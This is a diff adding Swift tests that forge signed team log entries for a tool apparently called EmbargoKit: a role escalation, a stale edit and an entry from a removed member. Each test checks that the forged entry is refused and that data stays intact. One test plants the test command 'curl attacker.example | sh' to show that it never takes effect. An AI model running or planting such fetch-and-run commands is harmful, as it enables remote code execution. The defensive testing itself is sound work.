@@ -1,0 +1,101 @@
+import EmbargoCrypto
+import Foundation
+import GRDB
+import Testing
+@testable import EmbargoKit
+@testable import EmbargoStore
+
+/// An inside attacker who skips embargo altogether: they hold the data key
+/// and their own signing key, write a team log entry by hand and push it.
+/// Every other machine refuses it (exit 4) and keeps its data.
+extension TeamCLITests {
+    /// Writes `changes` (the difference `forge` makes to the member's last
+    /// synced state) as the next entry of the team log, sealed under
+    /// `store`'s key and signed by `name`'s identity, and pushes it.
+    static func pushForgedEntry(_ team: Team, as name: String, key store: Store? = nil,
+                                _ forge: (Database, EmbargoIdentity) throws -> Void) throws {
+        let box = team[name]
+        let identity = try box.identity("alice") // every sandbox keeps its identity at alice.identity
+        let store = try store ?? Store.open(at: box.store, identity: identity.age)
+        let baseBytes = try #require(try SafeFile.read(box.store.appendingPathComponent("team/base.embargo")))
+        let base = try store.openState(baseBytes)
+        let forged = try base.copy()
+        try forged.queue.write { db in try forge(db, identity) }
+        let changes = try RowDiff.diff(from: base, to: forged)
+
+        let work = box.root.appendingPathComponent("forgery-\(UUID().uuidString)")
+        try box.git(["clone", "--quiet", "--branch", "main", team.remote.path, work.path])
+        let log = work.appendingPathComponent("log")
+        let last = try #require(try FileManager.default.contentsOfDirectory(atPath: log.path).sorted().last)
+        let sequence = try #require(TeamLogEntry.parse(fileName: last)).sequence
+        let previous = Digest.sha256([UInt8](try Data(contentsOf: log.appendingPathComponent(last))))
+        let content = TeamLogEntry.Content(author: name, signingKey: identity.signingKey, at: "2026-12-04T10:00:00Z",
+                                           kind: .changes, changes: changes, snapshot: nil)
+        let (bytes, _) = try TeamLogEntry.seal(content, sequence: sequence + 1, previous: previous, identity: identity, store: store)
+        try Data(bytes).write(to: work.appendingPathComponent(TeamLogEntry.path(sequence + 1, .changes)))
+        try box.git(["-C", work.path, "add", "--all"])
+        try box.git(["-C", work.path, "commit", "--quiet", "-m", "embargo sync \(name) 2 changes"])
+        try box.git(["-C", work.path, "push", "--quiet", "origin", "HEAD:main"])
+    }
+
+    /// A QA member's entry that makes them an admin (a role change only an
+    /// admin may sign) is refused on every machine.
+    @Test func anEntryBeyondItsAuthorsRoleIsRefusedEverywhere() throws {
+        let team = try Team(members: [("bob", "qa"), ("carol", "preparer")])
+        defer { team.remove() }
+        try team["bob"].ok(["store", "sync"])
+        try Self.pushForgedEntry(team, as: "bob") { db, identity in
+            try db.execute(sql: "UPDATE members SET role = 'admin' WHERE name = 'bob'")
+            try AuditTrail.append(db, identity: identity, member: "bob", at: "2026-12-04T10:00:00Z", action: "member.role", object: "bob",
+                                  detail: "role admin")
+        }
+        for name in ["alice", "carol"] {
+            let before = try team[name].ok(["member", "list"]).stdout
+            let run = try team[name].embargo(["store", "sync"])
+            #expect(run.status == 4, "\(name): \(run.stderr)")
+            #expect(run.stderr.contains("team's changes are refused"), "\(name): \(run.stderr)")
+            #expect(try team[name].ok(["member", "list"]).stdout == before, "\(name)'s data is intact")
+            try team[name].ok(["audit", "verify"])
+        }
+    }
+
+    /// An entry that rewrites an advisory without being what its author
+    /// signed (its rows do not apply to the state before it) is refused.
+    @Test func anEntryThatDoesNotApplyIsRefused() throws {
+        let team = try Team(members: [("bob", "preparer")])
+        defer { team.remove() }
+        try team["alice"].ok(["advisory", "create", "--project", "sample", "--title", "Greeting", "--description", "d"])
+        try team["bob"].ok(["store", "sync"])
+        try team["alice"].ok(["advisory", "edit", "ADV-2026-001", "--description", "changed meanwhile"])
+        // bob's entry is built on the state before alice's edit, but claims to follow it.
+        try Self.pushForgedEntry(team, as: "bob") { db, _ in
+            try db.execute(sql: "UPDATE advisories SET description = 'forged' WHERE id = 'ADV-2026-001'")
+        }
+        let run = try team["alice"].embargo(["store", "sync"])
+        #expect(run.status == 4, "\(run.stderr)")
+        #expect(run.stderr.contains("is refused"), "\(run.stderr)")
+        let shown = try team["alice"].json(team["alice"].ok(["advisory", "show", "ADV-2026-001", "--json"]).stdout)["advisory"] as? [String: Any]
+        #expect(shown?["description"] as? String == "changed meanwhile")
+    }
+
+    /// A removed member still holds the old data key: an entry they seal
+    /// with it after their removal is refused on every machine.
+    @Test func anEntryByARemovedMemberIsRefusedEverywhere() throws {
+        let team = try Team(members: [("bob", "preparer"), ("carol", "preparer")])
+        defer { team.remove() }
+        try team["bob"].ok(["store", "sync"])
+        try team["carol"].ok(["store", "sync"])
+        try team["alice"].ok(["member", "remove", "bob"])
+        try Self.pushForgedEntry(team, as: "bob") { db, identity in
+            try db.execute(sql: "UPDATE projects SET test_command = 'curl attacker.example | sh' WHERE name = 'sample'")
+            try AuditTrail.append(db, identity: identity, member: "bob", at: "2026-12-04T10:00:00Z", action: "project.set", object: "sample",
+                                  detail: "test command")
+        }
+        for name in ["alice", "carol"] {
+            let run = try team[name].embargo(["store", "sync"])
+            #expect(run.status == 4, "\(name): \(run.stderr)")
+            #expect(try team[name].ok(["project", "show", "sample"]).stdout.contains("attacker") == false)
+            try team[name].ok(["store", "verify"])
+        }
+    }
+}
